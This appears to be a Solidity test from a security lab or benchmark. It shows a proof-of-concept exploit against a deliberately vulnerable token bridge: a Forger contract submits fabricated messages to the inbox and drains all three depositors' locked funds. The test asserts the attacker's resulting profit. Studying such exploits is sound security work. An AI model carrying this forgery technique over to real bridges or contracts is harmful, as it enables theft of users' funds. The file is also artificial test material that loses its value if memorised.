// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Escrow} from "../bridge-replay/src/Escrow.sol";
import {Inbox} from "../bridge-replay/src/Inbox.sol";
import {Token} from "../../shared/Erc20.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

/// Delivers messages that nobody sent.
contract Forger {
    function run(Inbox inbox, Escrow escrow) external {
        for (uint32 asset = 1; asset <= 2; ++asset) {
            inbox.process(Inbox.Message(9_000 + asset, asset, address(this), escrow.locked(asset)));
        }
    }
}

contract BridgeReplayTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);
    address private constant CAROL = address(0xCA401);
    address private constant UPDATER = address(0x0DA7);

    event Profit(uint256 marks);

    Token private mark;
    Token private zinc;
    Escrow private escrow;
    Inbox private inbox;
    Forger private forger;

    function setUp() public {
        vm.warp(1_700_000_000);
        mark = new Token("Mark", "MRK");
        zinc = new Token("Zinc", "ZNC");
        escrow = new Escrow();
        inbox = new Inbox(escrow, UPDATER, 30 minutes, bytes32(0));
        escrow.setInbox(address(inbox));
        escrow.list(1, mark);
        escrow.list(2, zinc);
        forger = new Forger();

        mark.mint(ALICE, 3_000_000 ether);
        mark.mint(BOB, 2_200_000 ether);
        zinc.mint(CAROL, 310_000 ether);
        mark.mint(CAROL, 40_000 ether);
        mark.mint(address(forger), 8_000 ether);
        zinc.mint(address(forger), 250 ether);
        _lock(ALICE, 1, 2_600_000 ether);
        _lock(BOB, 1, 1_750_000 ether);
        _lock(CAROL, 2, 240_000 ether);

        // The same messages as in heist.toml, to this test's addresses.
        bytes32[8] memory row;
        Inbox.Message memory first = Inbox.Message(1, 1, ALICE, 100_000 ether);
        row[0] = inbox.leafOf(first);
        row[1] = inbox.leafOf(Inbox.Message(2, 1, BOB, 45_000 ether));
        row[2] = inbox.leafOf(Inbox.Message(3, 2, CAROL, 12_000 ether));
        row[3] = inbox.leafOf(Inbox.Message(4, 2, ALICE, 500 ether));
        row[4] = inbox.leafOf(Inbox.Message(5, 1, CAROL, 7_000 ether));
        bytes32 left = _two(_two(row[0], row[1]), _two(row[2], row[3]));
        bytes32 right = _two(_two(row[4], row[5]), _two(row[6], row[7]));
        vm.prank(UPDATER);
        inbox.submit(_two(left, right));
        vm.warp(1_700_003_600);
        inbox.proveAndProcess(first, [row[1], _two(row[2], row[3]), right], 0);
        inbox.prove(row[1], [row[0], _two(row[2], row[3]), right], 1);
    }

    function _lock(address who, uint32 asset, uint256 amount) private {
        vm.startPrank(who);
        escrow.tokens(asset).approve(address(escrow), 1e60);
        escrow.lock(asset, amount, bytes32(uint256(uint160(who))));
        vm.stopPrank();
    }

    function _two(bytes32 a, bytes32 b) private pure returns (bytes32) {
        return keccak256(abi.encode(a, b));
    }

    function test_attack_pays() public {
        forger.run(inbox, escrow);
        uint256 profit = mark.balanceOf(address(forger)) - 8_000 ether + 6 * (zinc.balanceOf(address(forger)) - 250 ether);
        emit Profit(profit);
        // All that was locked: 4350000 marks and 240000 zinc less a fee of 5 bps, and less alice's message.
        require(profit == 4_347_825 ether - 100_000 ether + 6 * 239_880 ether, "less than all");
    }
}
